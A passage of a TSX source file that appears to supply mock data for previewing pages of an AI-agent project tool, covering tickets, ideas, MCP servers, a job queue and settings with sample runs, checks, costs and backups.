          rerun_failed: "1",
        },
        message: 'Cannot read the form: "test.timeout_seconds": Write whole seconds',
        errors: [{ field: "test.timeout_seconds", message: "Write whole seconds, or nothing" }],
      }}
      missing="The project requires setup, and has no such command. Name it in the project's settings"
      defaultSeconds={{ setup: 1_200, build: 1_200, test: 1_800 }}
      flaky={[
        {
          file: "tests/a/rather/long/path/of/tests/that_is_flaky_from_time_to_time_test.ts",
          test: "keeps the second save",
          times: 3,
          firstAt: a.ago(300),
          lastAt: a.ago(30),
          ticketId: "tkt_save",
        },
        {
          file: "",
          test: "loads",
          times: 1,
          firstAt: a.ago(9),
          lastAt: a.ago(9),
          ticketId: "tkt_save",
        },
      ]}
    />
  ),
  "/projects/prj_game/mcp-servers": (shell) => (
    <McpServersPage
      shell={shell}
      project={a.project()}
      servers={[
        { server: a.mcpServer(), form: mcpForm, tags: mcpForm.tags },
        {
          server: a.mcpServer({
            id: "mcp_sums",
            name: "sums",
            transport: "http",
            command: "",
            args: [],
            url: "https://mcp.example.com/a/rather/long/address/of/a/server/of/tools",
            active: false,
          }),
          tags: ["private", "untrusted", "outbound"],
          form: {
            ...mcpForm,
            message: "Cannot save the MCP server",
            errors: [{ field: "url", message: "Write the address of the server" }],
          },
        },
      ]}
      newForm={mcpForm}
      trial={{
        server: a.mcpServer(),
        tools: [
          { name: "mcp__docs__search_pages", description: "Searches the handbook" },
          { name: "mcp__docs__read_page", description: "" },
        ],
        problems: [],
      }}
    />
  ),
  "/settings": (shell) => settingsPage(shell),
  "/start": (shell) => (
    <StartPage shell={{ ...shell, projects: [] }} path="" message={null} errors={[]} />
  ),
  "/missing": (shell) => (
    <ErrorPage
      shell={shell}
      status={404}
      message="No ticket with this address"
      requestId="req_1"
      backHref="/development"
    />
  ),
  "/conflict": (shell) => (
    <ErrorPage
      shell={shell}
      status={409}
      message="Cannot approve idea #12: it was approved meanwhile"
      requestId="req_2"
      backHref="/ideas/idea_save"
      kept={[{ label: "Feedback", text: "Make it smaller" }]}
    />
  ),
};

function ideaPage(shell: Shell, changes: Parameters<typeof a.idea>[0]): VNode {
  const idea = a.idea(changes);
  const asked = idea.status === "questions";
  return (
    <IdeaPage
      approvals={idea.status === "refining" ? [{ approval: mcpApproval, run: a.run() }] : []}
      shell={shell}
      live={live(`/live/idea/${idea.id}`)}
      idea={idea}
      projectName="Space game"
      questions={[
        a.question({ status: "answered", answer: "Wait for the first", decidedAt: a.ago(20) }),
        ...(asked
          ? [
            a.question({ id: "q_2", number: 2 }),
            a.question({ id: "q_3", number: 3, options: [] }),
          ]
          : []),
      ]}
      isHeld={idea.status === "submitted"}
      origin={{ title: "Saving", section: "Requirements", href: "/documents/document_saving" }}
      namedIn={[{ title: "A very long title ".repeat(9), href: "/documents/document_long" }]}
      delay={null}
      runs={[
        {
          run: a.run({ id: "run_c", agent: "clarifier", purpose: "clarify", status: "succeeded" }),
          liveText: "",
          delay: null,
        },
        {
          run: a.run({ id: "run_s", agent: "researcher", purpose: "research" }),
          liveText: "I read",
          delay: rateLimit,
        },
      ]}
      changes={a.changes}
      resolve={resolve}
      refusedDecision={null}
      refusedAnswer={null}
    />
  );
}

function ticketPage(
  shell: Shell,
  changes: Parameters<typeof a.ticket>[0],
  undo: Undo | null = null,
): VNode {
  const ticket = a.ticket(changes);
  const blocked = ticket.status === "blocked";
  const run = a.run(blocked ? { status: "failed", failure: "stuck", finishedAt: a.ago(2) } : {});
  return (
    <TicketPage
      shell={shell}
      live={live(`/live/ticket/${ticket.id}`)}
      ticket={ticket}
      projectName="Space game"
      commands={a.project().commands}
      tried={[{
        round: 1,
        runId: "run_0",
        summary: "Wrote the *save* before the level, as the test wants it",
        failed: a.check(),
      }]}
      waysOn={{
        takenOver: false,
        ticketId: ticket.id,
        steps: ["prepare", "develop", "build", "test"],
        commands: {
          inPlace: "cd /data/projects/space-game/worktrees/7\ngit commit -a -m 'Save once'",
          elsewhere: "cd /home/ana/space-game\ngit switch --ignore-other-worktrees gaffer/7-save",
        },
      }}
      running={blocked ? null : {
        name: "test",
        command: "sh test.sh --tap --with a-rather-long-argument-that-no-phone-has-room-for",
        baseline: false,
        startedAt: a.ago(2),
        tail: "ok 45 - saves\nok 46 - loads\n",
      }}
      undo={undo}
      pull={pullProps(blocked ? { stopped: true, error: "Cannot push: refused" } : {})}
      idea={saveIdea}
      subtasks={[
        a.subtask(),
        a.subtask({
          id: "sub_2",
          position: 2,
          title: "Cover it by a test",
          status: blocked ? "blocked" : "in_progress",
          summary: "",
          doneAt: null,
        }),
        a.subtask({
          id: "sub_3",
          position: 3,
          title: "Say so",
          status: "pending",
          startedAt: null,
        }),
      ]}
      checks={[
        a.check(),
        a.check({ id: "chk_build", name: "build", status: "passed", exitCode: 0, report: null }),
        a.check({
          id: "chk_again",
          status: "passed",
          exitCode: 0,
          report: a.passedReport,
          rerunOf: "chk_test",
          flaky: [{ file: "tests/save_test.sh", test: "keeps the second save" }],
        }),
        a.check({
          id: "chk_known",
          knownFailures: true,
          report: {
            ...a.passedReport,
            failed: 1,
            failures: [{ test: "an old one", message: "not ok", before: true }],
          },
        }),
        a.check({
          id: "chk_base",
          baseline: true,
          status: "passed",
          exitCode: 0,
          report: a.passedReport,
        }),
      ]}
      delay={rateLimit}
      hasLeftFolder
      order={{
        needs: [a.ticket({ id: "t5", number: 3, title: "Shields", status: "done" })],
        neededBy: [a.ticket({ id: "t2", number: 8, title: "Write the manual", status: "queued" })],
        start: { starts: null, notBefore: null, splitFrom: null },
        notBefore: null,
        timeZone: "Europe/Berlin",
        splitFrom: null,
        splitInto: [],
        wait: rateLimit,
      }}
      progress={{
        run: {
          id: run.id,
          turns: run.turns,
          maxTurns: run.maxTurns,
          tokens: 12_345,
          maxTokens: 1_000_000,
          costMicroUsd: run.costMicroUsd,
          maxCostMicroUsd: run.maxCostMicroUsd,
        },
        subtask: { id: "sub_2", position: 2, title: "Cover it by a test" },
        expected: { ms: 720_000, costMicroUsd: 300_000, of: 5, type: "bugfix" },
      }}
      summary={{
        text: "Saves once, whatever is pressed",
        subtasks: [a.subtask()],
        steps: [
          { step: "develop", times: 2, ms: 240_000, tokens: 12_345, costMicroUsd: 90_000 },
          { step: "test", times: 1, ms: 5_000, tokens: 0, costMicroUsd: 0 },
        ],
        workedMs: 245_000,
        elapsedMs: 300_000,
        costMicroUsd: 90_000,
        learned: [{
          id: "memory_1",
          memory: "bugfix-dev.global",
          path: "checks.md",
          diff: "+ Run the tests twice",
          runId: run.id,
          callId: "call_1",
          by: "bugfix-dev",
          at: a.ago(3),
        }],
      }}
      runs={[run, a.run({ id: "run_0", status: "succeeded", purpose: "develop" })]}
      approvals={[]}
      changes={a.changes}
      activity={{
        run,
        events: a.eventsOf(a.runBodies),
        liveText: blocked ? "" : "Now I write the test",
        allHref: null,
      }}
      resolve={resolve}
      refused={null}
    />
  );
}

/** The queue with a job in every state that looks different. */
function jobsPage(shell: Shell): VNode {
  const waiting = { status: "available", attempt: 0, startedAt: null, leasedBy: null } as const;
  const row = (job: Parameters<typeof a.job>[0], about: Partial<JobRow> = {}): JobRow => ({
    job: a.job(job),
    subject: saveTicket,
    run: null,
    projectName: "Space game",
    waitsFor: null,
    stays: null,
    ...about,
  });
  const failure = "network" as const;
  const message = "Cannot reach the model: the connection was refused (os error 111)";
  const note = (attempt: number, minutes: number) => ({
    ...{ attempt, at: a.ago(minutes), message, failure },
  });
  const step = { kind: "advance_ticket", queue: "steps", maxAttempts: 8 } as const;
  const upkeep = { queue: "upkeep", projectId: null, priority: 3, maxAttempts: 3 } as const;
  const nobody = { subject: null, projectName: null };
  return (
    <JobsPage
      shell={shell}
      live={live("/live/jobs")}
      filter="all"
      counts={{
        all: 1_240,
        scheduled: 1,
        available: 2,
        executing: 2,
        retryable: 1,
        completed: 1_230,
        discarded: 2,
        cancelled: 2,
      }}
      queues={[
        {
          name: "agents",
          slots: 4,
          slotsPerProject: 2,
          executing: 2,
          waiting: 2,
          ...later,
          paused: null,
        },
        {
          ...{ name: "steps", slots: 2, slotsPerProject: null, executing: 0, waiting: 1, ...later },
          paused: { by: "owner", at: a.ago(20) },
        },
        {
          name: "merges",
          slots: 2,
          slotsPerProject: null,
          executing: 0,
          waiting: 0,
          ...later,
          paused: null,
        },
        {
          name: "forges",
          slots: 4,
          slotsPerProject: null,
          executing: 0,
          waiting: 0,
          ...later,
          paused: null,
        },
        {
          name: "upkeep",
          slots: 1,
          slotsPerProject: null,
          executing: 0,
          waiting: 0,
          scheduled: 1,
          retryable: 2,
          paused: null,
        },
      ]}
      maxJobs={5}
      rows={[
        row({}, { run: { id: "run_dev", agent: "bugfix-dev" } }),
        row({ ...waiting, id: "2040" }, {
          run: { id: "run_r", agent: "researcher" },
          subject: saveIdea,
          waitsFor: "Its project has 2 at work, which is all that it may",
        }),
        row(
          {
            ...{ ...step, ...waiting, id: "2039", status: "retryable", attempt: 3, priority: 0 },
            ...{ scheduledAt: a.ago(-4), errors: [note(1, 30), note(2, 20), note(3, 6)] },
          },
          { waitsFor: "Its queue was paused by owner" },
        ),
        row({ ...waiting, ...upkeep, id: "2038", kind: "prune" }, {
          ...nobody,
          waitsFor: "Waits its turn",
        }),
        row({
          ...{ ...waiting, ...upkeep, id: "2037", kind: "backup", status: "scheduled" },
          scheduledAt: a.ago(-700),
        }, nobody),
        row({
          ...{ ...step, id: "2036", status: "discarded", attempt: 8, leasedBy: null },
          ...{ finishedAt: a.ago(50), errors: [note(7, 70), note(8, 50)] },
        }),
        row({
          ...{ id: "2035", kind: "merge_ticket", queue: "merges", status: "discarded" },
          ...{ attempt: 8, maxAttempts: 8, finishedAt: a.ago(90), errors: [note(8, 90)] },
        }, { stays: 'ticket #7 is "in_progress"' }),
        row({ ...step, id: "2034", status: "completed", finishedAt: a.ago(100) }),
      ]}
      schedules={[{
        ...{ name: "prune", kind: "prune", cron: "17 * * * *", timeZone: "UTC" },
        ...{ nextAt: a.ago(-35), lastAt: a.ago(25) },
      }]}
      hours={Array.from({ length: 24 }, (_, n) => ({
        hour: a.ago((23 - n) * 60),
        completed: (n * 7) % 23,
        discarded: n === 20 ? 2 : 0,
        medianWaitMs: n % 5 === 0 ? null : n * 120,
        p95WaitMs: n % 5 === 0 ? null : n * 900,
      }))}
      moreHref="/jobs?cursor=2034"
    />
  );
}

function settingsPage(shell: Shell): VNode {
  return (
    <SettingsPage
      shell={shell}
      live={live("/live/settings")}
      model={shell.demo
        ? { kind: "demo" }
        : { kind: "endpoint", baseUrl: "https://api.anthropic.com" }}
      lacking={shell.demo ? [] : ["cache_control", "compaction"]}
      held={shell.held && { ...shell.held, since: a.ago(6) }}
      active={2}
      maxRuns={4}
      version="0.1.0"
      dataDir="/home/ana/.local/share/gaffer"
      backups={shell.demo ? [] : [
        {
          name: "gaffer-2026-03-14T093000.000Z-daily.db",
          kind: "daily",
          madeAt: a.ago(72),
          bytes: 4_200_000,
        },
        {
          name: "gaffer-2026-03-01T120000.000Z-update.db",
          kind: "update",
          madeAt: a.ago(18_642),
          bytes: 900_000,
        },
      ]}
      backupFailure={shell.held &&
        { message: "Cannot back up: the disk is full. Free some space", at: a.ago(12) }}
      backupEveryHours={24}
      timeZone="Europe/Berlin"
      restoreCommand="gaffer restore FILE --data /home/ana/.local/share/gaffer"
    />
  );
}
